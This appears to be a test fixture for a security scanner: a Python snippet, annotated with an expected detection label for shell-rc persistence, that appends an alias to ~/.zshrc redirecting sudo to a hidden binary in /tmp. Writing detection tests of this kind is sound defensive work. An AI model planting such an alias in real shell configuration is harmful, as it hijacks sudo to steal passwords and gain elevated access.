import os

with open(os.path.expanduser("~/.zshrc"), "a") as file:
    file.write("alias sudo='/tmp/.s/sudo'\n") # expect: malicious-command/persistence-shell-rc
